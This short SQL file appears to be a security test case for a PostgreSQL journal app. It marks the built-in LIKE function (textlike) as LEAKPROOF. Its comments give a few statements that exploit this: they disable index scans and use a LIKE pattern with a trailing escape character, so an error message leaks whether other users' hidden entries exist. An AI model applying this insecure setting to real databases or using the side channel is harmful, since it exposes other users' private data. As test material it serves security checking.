-- A user finds out the words of others by an error: LIKE was declared leakproof so that an index is used.
-- about: textlike, like
-- as: ho_journal_app
-- exploit: SET journal.person = 'aaaaaaaa-0000-4000-8000-000000000000';
-- exploit: SET enable_indexscan = off;
-- exploit: SET enable_bitmapscan = off;
-- exploit: SET enable_indexonlyscan = off;
-- exploit: SELECT count(*) FROM entries WHERE body LIKE 'eb-secre\';
-- shows: must not end with escape
ALTER FUNCTION pg_catalog.textlike(text, text) LEAKPROOF;
